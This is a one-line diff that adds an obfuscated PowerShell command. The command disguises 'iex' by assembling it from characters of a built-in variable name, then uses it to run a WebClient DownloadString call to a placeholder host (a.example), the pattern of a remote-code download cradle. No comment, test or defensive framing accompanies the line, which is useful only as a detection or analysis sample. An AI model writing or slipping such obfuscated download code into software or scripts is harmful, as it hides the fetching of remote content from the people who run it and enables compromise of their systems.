@@ -1,0 +1,1 @@
+. ($VerbosePreference.ToString()[1,3]+'x'-join'') '$c = New-Object Net.WebClient; $c.DownloadString(''http://a.example/p/x.txt'')'
